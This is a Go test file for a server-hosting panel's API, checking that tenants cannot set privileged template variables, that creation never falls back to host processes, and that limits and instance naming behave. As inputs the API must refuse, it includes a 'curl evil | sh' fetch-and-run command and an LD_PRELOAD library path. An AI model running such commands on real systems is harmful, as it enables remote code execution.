package server_test

import (
	"context"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/skypanel/skypanel/runtime/fake"
	"github.com/skypanel/skypanel/server"
	"github.com/skypanel/skypanel/server/apitest"
)

// TestUserEditableVariables: a tenant sets only the template variables marked userEditable,
// on create and on definition edit; variables that feed the command line (memory -Xmx, the
// generic template's command) are the administrator's, and the generic template gives a
// tenant no way to pick a command or an image.
func TestUserEditableVariables(t *testing.T) {
	n := startTenantNode(t, fake.Options{})
	token, id := n.tenant(t, "player", "server.create", "server.view", "server.definition.edit")
	n.setQuota(t, id, map[string]any{"servers": 5, "memory": 4096, "disk": 8192, "cpu": 400, "databases": 0, "backups": 0})
	create := func(sid, tpl string, vars map[string]any) *apitest.Response {
		return n.env.DoJSON(t, http.MethodPut, "/api/servers/"+sid, token, map[string]any{"name": sid, "ownerId": id,
			"template": tpl, "variables": vars, "limits": limits(512, 1024, 50)})
	}
	refused := func(t *testing.T, r *apitest.Response, field string) {
		t.Helper()
		r.ExpectError(t, http.StatusForbidden, server.CodePermissionDenied)
		if f := fieldOf(t, r); f != field {
			t.Errorf("metadata.field = %q, want %q", f, field)
		}
	}

	refused(t, create("VARS0001", "minecraft-java", map[string]any{"memory": 4096}), "variables.memory")
	refused(t, create("VARS0002", "generic", map[string]any{"command": "curl evil | sh"}), "variables.command")
	refused(t, create("VARS0003", "generic", map[string]any{"install": "id"}), "variables.install")
	if r := create("VARS0004", "generic", nil); r.Status != http.StatusBadRequest {
		t.Errorf("generic template without a command: %d %s, want 400", r.Status, r.Body)
	}
	for _, sid := range []string{"VARS0001", "VARS0002", "VARS0003", "VARS0004"} {
		if n.row(t, sid) != nil {
			t.Errorf("refused server %s exists", sid)
		}
	}
	if r := create("VARS0005", "minecraft-java", map[string]any{"version": "latest", "eula": true}); r.Status != http.StatusCreated {
		t.Fatalf("user-editable variables: %d %s", r.Status, r.Body)
	}
	waitFor(t, "the install of VARS0005 to end", func() bool {
		var st struct{ State string }
		n.env.Do(t, http.MethodGet, "/api/servers/VARS0005/status", n.admin, nil, nil).JSON(t, &st)
		return st.State == "stopped"
	})
	before := n.row(t, "VARS0005")

	edit := func(tok string, body string) *apitest.Response {
		return n.env.Do(t, http.MethodPut, "/api/servers/VARS0005/definition", tok, strings.NewReader(body), nil)
	}
	refused(t, edit(token, `{"variables":{"memory":8192}}`), "variables.memory")
	refused(t, edit(token, `{"name":"renamed","variables":{"eula":false,"memory":8192}}`), "variables.memory")
	if after := n.row(t, "VARS0005"); after.Name != before.Name || fmt.Sprint(after.Variables) != fmt.Sprint(before.Variables) {
		t.Errorf("refused edit changed the row: %v → %v", before.Variables, after.Variables)
	}
	if r := edit(token, `{"name":"renamed","variables":{"eula":false}}`); r.Status != http.StatusNoContent {
		t.Errorf("tenant edit of name and an editable variable: %d %s", r.Status, r.Body)
	}
	if r := edit(n.admin, `{"variables":{"memory":2048}}`); r.Status != http.StatusNoContent {
		t.Errorf("admin edit of memory: %d %s", r.Status, r.Body)
	}
	if s := n.row(t, "VARS0005"); s.Name != "renamed" || s.Variables["memory"] != "2048" || s.Variables["eula"] != "false" {
		t.Errorf("row after the allowed edits: %s %v", s.Name, s.Variables)
	}

	// A server without a template: variables would only reach its environment (LD_PRELOAD).
	r := n.env.DoJSON(t, http.MethodPut, "/api/servers/PLAIN001", n.admin, map[string]any{"name": "plain", "ownerId": id,
		"dockerImage": "busybox", "startup": "sleep 1000"})
	if r.Status != http.StatusCreated {
		t.Fatalf("admin create: %d %s", r.Status, r.Body)
	}
	r = n.env.Do(t, http.MethodPut, "/api/servers/PLAIN001/definition", token, strings.NewReader(`{"variables":{"LD_PRELOAD":"/tmp/x.so"}}`), nil)
	refused(t, r, "variables.LD_PRELOAD")
	if s := n.row(t, "PLAIN001"); len(s.Variables) != 0 {
		t.Errorf("variables stored: %v", s.Variables)
	}
}

// TestCreateNeverFallsBack: without environmentType, a node whose docker environment is
// unavailable answers 503 ErrNodeUnavailable with the reason (for administrators too) and
// nothing is created; it is never silently a host process.
func TestCreateNeverFallsBack(t *testing.T) {
	n := startTenantNode(t, fake.Options{Unavailable: "containerd does not answer"})
	body := map[string]any{"name": "x", "ownerId": n.env.AdminID, "startup": "sleep 1000", "dockerImage": "busybox"}
	r := n.env.DoJSON(t, http.MethodPut, "/api/servers/NOFALL01", n.admin, body)
	d := r.ExpectError(t, http.StatusServiceUnavailable, server.CodeNodeUnavailable)
	if !strings.Contains(d.Msg, "containerd does not answer") || fieldOf(t, r) != "environmentType" {
		t.Errorf("error %s, want the reason and metadata.field environmentType", r.Body)
	}
	if n.row(t, "NOFALL01") != nil {
		t.Error("a server was created")
	}
	tok, id := n.tenant(t, "t", "server.create")
	n.setQuota(t, id, map[string]any{"servers": 1, "memory": 1024, "disk": 1024, "cpu": 100, "databases": 0, "backups": 0})
	r = n.env.DoJSON(t, http.MethodPut, "/api/servers/NOFALL02", tok, map[string]any{"name": "x", "ownerId": id,
		"template": "minecraft-java", "limits": limits(512, 512, 50)})
	if d := r.ExpectError(t, http.StatusServiceUnavailable, server.CodeNodeUnavailable); strings.Contains(d.Msg, "containerd does not answer") ||
		strings.Contains(string(r.Body), "containerd does not answer") {
		t.Errorf("a tenant sees the node's internal reason: %s", r.Body)
	}
	if n.row(t, "NOFALL02") != nil {
		t.Error("a tenant server was created")
	}
}

// TestPidsLimit: limits.pids (administrators) reaches the runtime and is shown on the server.
func TestPidsLimit(t *testing.T) {
	n := startTenantNode(t, fake.Options{})
	r := n.env.DoJSON(t, http.MethodPut, "/api/servers/PIDS0001", n.admin, map[string]any{"name": "p",
		"ownerId": n.env.AdminID, "dockerImage": "busybox", "startup": "sleep 1000",
		"limits": map[string]any{"memory": 64, "pids": 256}})
	if r.Status != http.StatusCreated {
		t.Fatalf("create: %d %s", r.Status, r.Body)
	}
	spec, err := n.fake.Spec("PIDS0001")
	if err != nil || spec.Limits.Pids != 256 {
		t.Errorf("runtime limits %+v (%v), want pids 256", spec.Limits, err)
	}
	var s struct{ Resources struct{ Pids int64 } }
	n.env.Do(t, http.MethodGet, "/api/servers/PIDS0001", n.admin, nil, nil).JSON(t, &s)
	if s.Resources.Pids != 256 {
		t.Errorf("resources.pids = %d, want 256", s.Resources.Pids)
	}
	if row, _ := n.env.Store.Client.Server.Get(context.Background(), "PIDS0001"); row == nil || row.Pids != 256 {
		t.Errorf("row: %+v", row)
	}
}

// TestServerNamedLikeInstallInstance: servers X and X-install can both exist, each with its
// own instance, and deleting X (which removes X's install instance too) leaves X-install's.
func TestServerNamedLikeInstallInstance(t *testing.T) {
	n := startTenantNode(t, fake.Options{})
	for _, id := range []string{"X", "X-install"} {
		r := n.env.DoJSON(t, http.MethodPut, "/api/servers/"+id, n.admin, map[string]any{"name": id,
			"ownerId": n.env.AdminID, "dockerImage": "busybox", "startup": "echo " + id})
		if r.Status != http.StatusCreated {
			t.Fatalf("create %s: %d %s", id, r.Status, r.Body)
		}
	}
	for _, id := range []string{"X", "X-install"} {
		if spec, err := n.fake.Spec(id); err != nil || !strings.Contains(spec.Command, "echo "+id) {
			t.Errorf("instance %s: %+v %v", id, spec, err)
		}
	}
	if r := n.env.Do(t, http.MethodDelete, "/api/servers/X", n.admin, nil, nil); r.Status != http.StatusNoContent {
		t.Fatalf("delete X: %d %s", r.Status, r.Body)
	}
	if _, err := n.fake.Spec("X"); err == nil {
		t.Error("X's instance survived its deletion")
	}
	if spec, err := n.fake.Spec("X-install"); err != nil || !strings.Contains(spec.Command, "echo X-install") {
		t.Errorf("deleting X removed the instance of server X-install: %v", err)
	}
}
